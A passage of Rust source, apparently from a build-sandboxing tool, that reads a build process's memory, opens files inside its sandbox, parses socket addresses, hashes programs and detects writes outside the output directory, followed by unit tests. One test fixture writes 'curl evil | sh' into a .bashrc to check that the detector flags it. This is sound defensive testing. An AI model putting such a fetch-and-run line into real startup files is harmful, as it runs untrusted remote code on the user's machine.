    // for the call, and returns a new descriptor or -1.
    let fd = unsafe {
        libc::syscall(
            libc::SYS_openat2,
            dir.as_raw_fd(),
            c.as_ptr(),
            &raw const how,
            std::mem::size_of::<libc::open_how>(),
        )
    };
    if fd < 0 {
        return Err(std::io::Error::last_os_error());
    }
    // SAFETY: a fresh descriptor from the kernel, owned by nothing else.
    Ok(unsafe { <File as std::os::fd::FromRawFd>::from_raw_fd(fd as i32) })
}

/// The memory of the process `pid` of a notification, read with `process_vm_readv(2)`: one
/// system call per read, where opening `/proc/PID/mem` took three (open, read, close) and a
/// walk of `/proc` on every notification (an install script's every `open` is one). The same
/// permission check (`PTRACE_MODE_ATTACH`). The pid is looked up on each read, so the caller
/// checks afterwards that the notification is still pending ([`still_valid`]).
struct Mem(u32);

impl Mem {
    /// Reads up to `buf.len()` bytes at `addr`: fewer where an unmapped page begins.
    fn read_at(&self, buf: &mut [u8], addr: u64) -> std::io::Result<usize> {
        let local = libc::iovec {
            iov_base: buf.as_mut_ptr().cast(),
            iov_len: buf.len(),
        };
        let remote = libc::iovec {
            iov_base: addr as *mut libc::c_void,
            iov_len: buf.len(),
        };
        let pid = libc::pid_t::try_from(self.0)
            .map_err(|_| std::io::Error::from_raw_os_error(libc::ESRCH))?;
        // SAFETY: process_vm_readv writes at most `local.iov_len` bytes into `buf`, which is
        // that long and mutably borrowed for the call; `remote` is only an address in the other
        // process, checked by the kernel.
        let n =
            unsafe { libc::process_vm_readv(pid, &raw const local, 1, &raw const remote, 1, 0) };
        usize::try_from(n).map_err(|_| std::io::Error::last_os_error())
    }
}

fn open_file(path: String) -> Option<File> {
    fs_err::File::open(path).ok().map(|f| f.into_parts().0)
}

/// Reads a NUL-terminated string of at most 4096 bytes at `addr` of the build's memory,
/// page by page (a string may end just before an unmapped page).
fn read_cstring(mem: &Mem, addr: u64) -> Option<String> {
    let mut out = Vec::new();
    let mut at = addr;
    while out.len() < 4096 {
        let page_left = 4096 - (at % 4096) as usize;
        let mut buf = vec![0u8; page_left.min(4096 - out.len())];
        let n = mem.read_at(&mut buf, at).ok()?;
        if n == 0 {
            return None;
        }
        let chunk = buf.get(..n)?;
        if let Some(end) = chunk.iter().position(|&b| b == 0) {
            out.extend_from_slice(chunk.get(..end)?);
            return Some(String::from_utf8_lossy(&out).into_owned());
        }
        out.extend_from_slice(chunk);
        at += n as u64;
    }
    None
}

/// Opens what `path` names for the process `pid` ([`openat2_in_sandbox`]): read-only,
/// non-blocking (a FIFO cannot stall zt), not becoming a controlling terminal; regular files
/// only.
fn open_in_sandbox(roots: &mut Roots, pid: u32, dirfd: i32, path: &str) -> Option<File> {
    let f = openat2_in_sandbox(
        roots,
        pid,
        dirfd,
        path,
        libc::O_RDONLY | libc::O_NONBLOCK | libc::O_NOCTTY | libc::O_CLOEXEC,
    )?;
    f.metadata().ok().filter(|m| m.is_file()).map(|_| f)
}

/// zt may run as root, and read what the build cannot: a digest is recorded only of a file
/// the build itself could read (others may read it, or the build's own id owns it readable).
fn readable_by_build(f: &File, build_uid: u32) -> bool {
    f.metadata()
        .is_ok_and(|m| m.mode() & 0o004 != 0 || (m.uid() == build_uid && m.mode() & 0o400 != 0))
}

/// Family, address and port of a `struct sockaddr` as the build passed it.
pub(crate) fn sockaddr(b: &[u8]) -> (String, String, u16) {
    let family = b
        .get(..2)
        .map(|f| u16::from_ne_bytes([f[0], f[1]]))
        .unwrap_or(0);
    let port = b
        .get(2..4)
        .map(|p| u16::from_be_bytes([p[0], p[1]]))
        .unwrap_or(0);
    match i32::from(family) {
        libc::AF_INET => {
            let a = b
                .get(4..8)
                .map(|a| std::net::Ipv4Addr::new(a[0], a[1], a[2], a[3]).to_string())
                .unwrap_or_default();
            ("inet".into(), a, port)
        }
        libc::AF_INET6 => {
            let a = b
                .get(8..24)
                .and_then(|a| <[u8; 16]>::try_from(a).ok())
                .map(|a| std::net::Ipv6Addr::from(a).to_string())
                .unwrap_or_default();
            ("inet6".into(), a, port)
        }
        libc::AF_UNIX => {
            let p = b.get(2..).unwrap_or_default();
            let a = match p.first() {
                Some(0) => format!(
                    "@{}",
                    String::from_utf8_lossy(p.get(1..).unwrap_or_default()).trim_end_matches('\0')
                ),
                _ => {
                    let end = p.iter().position(|&c| c == 0).unwrap_or(p.len());
                    String::from_utf8_lossy(p.get(..end).unwrap_or_default()).into_owned()
                }
            };
            ("unix".into(), a, 0)
        }
        f => (format!("other({f})"), String::new(), 0),
    }
}

/// Takes the listener the child created (descriptor `fd` in it) through its pidfd.
pub(crate) fn take_listener(pidfd: &OwnedFd, fd: i32) -> Result<OwnedFd, String> {
    // SAFETY: pidfd_getfd(pidfd, fd, 0) duplicates the child's descriptor into this process
    // (close-on-exec) or returns -1; it reads and writes no memory of ours.
    let r = unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd.as_raw_fd(), fd, 0u32) };
    if r < 0 {
        return Err(format!("pidfd_getfd: {}", nix::errno::Errno::last()));
    }
    // SAFETY: a fresh descriptor from the kernel, owned by nothing else.
    Ok(unsafe { <OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(r as i32) })
}

/// Files written or created in `copy` (the source copy after the build) outside `out`:
/// anything not in `before` (relative paths of the copy before the build, with sizes), or whose
/// mtime is no longer `sde` (every file of the copy carried it), or whose size changed.
pub fn writes_outside(
    copy: &std::path::Path,
    out: &std::path::Path,
    before: &BTreeMap<String, u64>,
    sde: i64,
) -> Vec<String> {
    let mut found = Vec::new();
    let mut stack = vec![copy.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(rd) = fs_err::read_dir(&d) else {
            continue;
        };
        for e in rd.flatten() {
            let p = e.path();
            let Ok(rel) = p.strip_prefix(copy) else {
                continue;
            };
            if rel == out {
                continue;
            }
            let Ok(m) = fs_err::symlink_metadata(&p) else {
                continue;
            };
            let name = rel.to_string_lossy().into_owned();
            if m.is_dir() {
                stack.push(p);
                continue;
            }
            let changed = match before.get(&name) {
                None => true,
                Some(&size) => m.mtime() != sde || (m.is_file() && m.len() != size),
            };
            if changed {
                found.push(name);
            }
        }
    }
    found.sort();
    found
}

/// The relative paths and sizes of the files in `copy` (for [`writes_outside`]).
pub fn files_before(copy: &std::path::Path) -> BTreeMap<String, u64> {
    let mut found = BTreeMap::new();
    let mut stack = vec![copy.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(rd) = fs_err::read_dir(&d) else {
            continue;
        };
        for e in rd.flatten() {
            let p = e.path();
            let Ok(m) = fs_err::symlink_metadata(&p) else {
                continue;
            };
            if m.is_dir() {
                stack.push(p);
            } else if let Ok(rel) = p.strip_prefix(copy) {
                found.insert(rel.to_string_lossy().into_owned(), m.len());
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    /// This process's memory standing for the build's: `pages` fresh pages with nothing mapped
    /// after them, read through [`Mem`] as zt reads a build's.
    struct Pages {
        base: *mut u8,
        len: usize,
    }

    impl Pages {
        fn new(pages: usize) -> Pages {
            let len = pages * 4096;
            // SAFETY: an anonymous private mapping of `len + 4096` bytes at an address the
            // kernel picks; the last page is unmapped again so that reads stop there.
            unsafe {
                let base = libc::mmap(
                    std::ptr::null_mut(),
                    len + 4096,
                    libc::PROT_READ | libc::PROT_WRITE,
                    libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
                    -1,
                    0,
                );
                assert_ne!(base, libc::MAP_FAILED);
                assert_eq!(libc::munmap(base.cast::<u8>().add(len).cast(), 4096), 0);
                Pages {
                    base: base.cast(),
                    len,
                }
            }
        }

        /// Writes `pointers` (native-endian u64) at offset `at`; returns their address.
        fn put(&self, at: usize, pointers: &[u64]) -> u64 {
            let bytes: Vec<u8> = pointers.iter().flat_map(|p| p.to_ne_bytes()).collect();
            assert!(at + bytes.len() <= self.len);
            // SAFETY: within the mapping (checked above), which nothing else uses.
            unsafe {
                std::ptr::copy_nonoverlapping(bytes.as_ptr(), self.base.add(at), bytes.len())
            };
            self.base as u64 + at as u64
        }
    }

    impl Drop for Pages {
        fn drop(&mut self) {
            // SAFETY: the mapping made in `new`, less its unmapped last page.
            unsafe { libc::munmap(self.base.cast(), self.len) };
        }
    }

    #[test]
    fn argv_pointers_stop_at_null_across_pages_and_at_the_limit() {
        let me = Mem(std::process::id());
        let m = Pages::new(2);
        // Across a page boundary (the array starts 16 bytes before it).
        let at = m.put(4096 - 16, &[11, 22, 33, 44, 0, 55]);
        assert_eq!(argv_pointers(&me, at), vec![11, 22, 33, 44]);
        // A pointer straddling the boundary (not 8-aligned).
        let at = m.put(4096 - 12, &[7, 8, 9, 0]);
        assert_eq!(argv_pointers(&me, at), vec![7, 8, 9]);
        // Memory that ends without a NULL: what could be read.
        let at = m.put(2 * 4096 - 24, &[1, 2, 3]);
        assert_eq!(argv_pointers(&me, at), vec![1, 2, 3]);
        // At most MAX_ARGS.
        let many: Vec<u64> = (1..=MAX_ARGS as u64 + 10).collect();
        let m = Pages::new((many.len() * 8).div_ceil(4096));
        let at = m.put(0, &many);
        assert_eq!(argv_pointers(&me, at), many[..MAX_ARGS].to_vec());
    }

    #[test]
    fn strings_are_read_up_to_their_nul_or_the_memory_s_end() {
        let me = Mem(std::process::id());
        let m = Pages::new(2);
        let put = |at: usize, s: &[u8]| {
            // SAFETY: within the two mapped pages.
            unsafe { std::ptr::copy_nonoverlapping(s.as_ptr(), m.base.add(at), s.len()) };
            m.base as u64 + at as u64
        };
        // across the page boundary
        let at = put(4096 - 3, b"/home/user/.npmrc\0");
        assert_eq!(read_cstring(&me, at).as_deref(), Some("/home/user/.npmrc"));
        // no NUL before the unmapped page: nothing (never a cut path)
        let at = put(2 * 4096 - 4, b"abcd");
        assert_eq!(read_cstring(&me, at), None);
        // an unmapped address, and a process that is not there
        assert_eq!(read_cstring(&me, m.base as u64 + 2 * 4096), None);
        assert_eq!(read_cstring(&Mem(u32::MAX), at), None);
    }

    /// The programs' digests are those of the whole files, whatever the descriptors'
    /// shared offset, and the same whether the hashing thread or `finish` computes them.
    /// The root is opened once where no process can change it, and per call where one might
    /// (a build running as uid 0 inside holds `CAP_SYS_CHROOT` there); either way it is the
    /// process's own root.
    #[test]
    fn the_root_is_kept_only_where_it_cannot_change() {
        let me = std::process::id();
        let slash = std::fs::metadata("/").unwrap();
        for fixed in [true, false] {
            let mut roots = Roots {
                fixed,
                cached: None,
            };
            let first = roots.of(me).unwrap();
            let m = first.metadata().unwrap();
            assert_eq!((m.dev(), m.ino()), (slash.dev(), slash.ino()));
            let first = first.as_raw_fd();
            let second = roots.of(me).unwrap().as_raw_fd();
            assert_eq!(first == second, fixed, "fixed: {fixed}");
        }
        // A process that is gone: no root, nothing kept.
        let mut roots = Roots {
            fixed: true,
            cached: None,
        };
        assert!(roots.of(u32::MAX).is_none());
        assert!(roots.cached.is_none());
    }

    #[test]
    fn programs_are_hashed_whole_on_the_hashing_thread() {
        use std::io::{Read, Seek, Write};
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("prog");
        let data: Vec<u8> = (0..3_000_000u32).map(|i| (i % 251) as u8).collect();
        fs_err::File::create(&path)
            .unwrap()
            .write_all(&data)
            .unwrap();
        let want = zt_core::Digest::of_reader(zt_core::DigestAlgorithm::Sha256, &data[..])
            .unwrap()
            .to_string();
        let mut f: File = fs_err::File::open(&path).unwrap().into();
        let mut some = [0u8; 1000];
        f.read_exact(&mut some).unwrap();
        assert_eq!(hash_program(&f).as_deref(), Some(want.as_str()));
        let h = ProgramHasher::start().unwrap();
        h.send((1, 2), &f);
        h.send((1, 2), &f);
        f.seek(std::io::SeekFrom::End(0)).unwrap();
        let done = h.finish();
        assert_eq!(done.len(), 1);
        assert_eq!(done[&(1, 2)].as_deref(), Some(want.as_str()));
        assert_eq!(hash_program(&f).as_deref(), Some(want.as_str()));
    }

    #[test]
    fn programs_of_every_size_around_the_buffer_hash_whole() {
        let dir = tempfile::tempdir().unwrap();
        let b = HASH_BUFFER as usize;
        for len in [0, 1, 4095, b - 1, b, b + 1, 2 * b + 7] {
            let data: Vec<u8> = (0..len).map(|i| (i % 253) as u8).collect();
            let path = dir.path().join(format!("p{len}"));
            fs_err::write(&path, &data).unwrap();
            let want = zt_core::Digest::of_reader(zt_core::DigestAlgorithm::Sha256, &data[..])
                .unwrap()
                .to_string();
            let f: File = fs_err::File::open(&path).unwrap().into();
            assert_eq!(hash_program(&f).as_deref(), Some(want.as_str()), "{len}");
        }
    }

    #[test]
    fn sockaddr_reads_inet_inet6_and_unix() {
        let mut v4 = vec![0u8; 16];
        v4[..2].copy_from_slice(&(libc::AF_INET as u16).to_ne_bytes());
        v4[2..4].copy_from_slice(&443u16.to_be_bytes());
        v4[4..8].copy_from_slice(&[203, 0, 113, 7]);
        assert_eq!(sockaddr(&v4), ("inet".into(), "203.0.113.7".into(), 443));
        let mut v6 = vec![0u8; 28];
        v6[..2].copy_from_slice(&(libc::AF_INET6 as u16).to_ne_bytes());
        v6[2..4].copy_from_slice(&53u16.to_be_bytes());
        v6[8] = 0x20;
        v6[9] = 0x01;
        v6[23] = 1;
        assert_eq!(sockaddr(&v6), ("inet6".into(), "2001::1".into(), 53));
        let mut un = (libc::AF_UNIX as u16).to_ne_bytes().to_vec();
        un.extend_from_slice(b"/run/docker.sock\0");
        assert_eq!(sockaddr(&un), ("unix".into(), "/run/docker.sock".into(), 0));
        // Truncated and hostile input never panics.
        assert_eq!(sockaddr(&[]).0, "other(0)");
        assert_eq!(sockaddr(&v4[..5]).1, "");
    }

    proptest::proptest! {
        #[test]
        fn sockaddr_never_panics(b in proptest::collection::vec(proptest::num::u8::ANY, 0..140)) {
            let _ = sockaddr(&b);
        }
    }

    #[test]
    fn writes_outside_the_output_are_found_by_name_size_and_mtime() {
        let d = tempfile::tempdir().unwrap();
        let c = d.path();
        fs_err::create_dir_all(c.join("src")).unwrap();
        fs_err::create_dir_all(c.join("out")).unwrap();
        fs_err::write(c.join("src/a.c"), "int a;").unwrap();
        fs_err::write(c.join("keep"), "k").unwrap();
        crate::build::set_mtimes(c, 1000).unwrap();
        let before = files_before(c);
        fs_err::write(c.join("out/app"), "binary").unwrap();
        fs_err::write(c.join("src/a.c"), "int b;").unwrap();
        fs_err::write(c.join(".bashrc"), "curl evil | sh").unwrap();
        let w = writes_outside(c, std::path::Path::new("out"), &before, 1000);
        assert_eq!(w, vec![".bashrc".to_string(), "src/a.c".to_string()]);
    }
}
